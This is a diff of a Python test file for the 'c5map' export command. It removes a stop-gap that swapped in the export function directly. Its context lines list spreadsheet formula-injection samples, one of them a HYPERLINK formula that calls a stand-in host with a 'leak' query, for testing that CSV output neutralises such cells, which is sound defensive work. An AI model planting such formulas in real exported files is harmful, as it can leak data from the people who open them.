@@ -16,7 +16,6 @@ import pyogrio
 import pytest
 
 from c5map.cli import _run, build_parser, main
-from c5map.export import export_command
 from c5map.spreadsheet import FORMULA_STARTS
 
 # The issue's payloads: each would run in Excel, LibreOffice or Sheets if a CSV cell started with it.
@@ -24,13 +23,8 @@ FORMULAS = ['=HYPERLINK("https://example.invalid/?leak","Source")', "@SUM(1+1)",
 
 
 def _export(*argv: str) -> int:
-    """Run ``c5map export ARGV`` as the command does: c5map's parser, cli's error handling and exit statuses.
-
-    ``c5map.export.export_command`` is the command's body; ``c5map.cli._cmd_export`` is to delegate to it, and
-    until it does, this runs it in its place.
-    """
+    """Run ``c5map export ARGV`` as the command does: c5map's parser, cli's error handling and exit statuses."""
     args = build_parser().parse_args(["export", *argv])
-    args.run = export_command
     return _run(args)
 
 
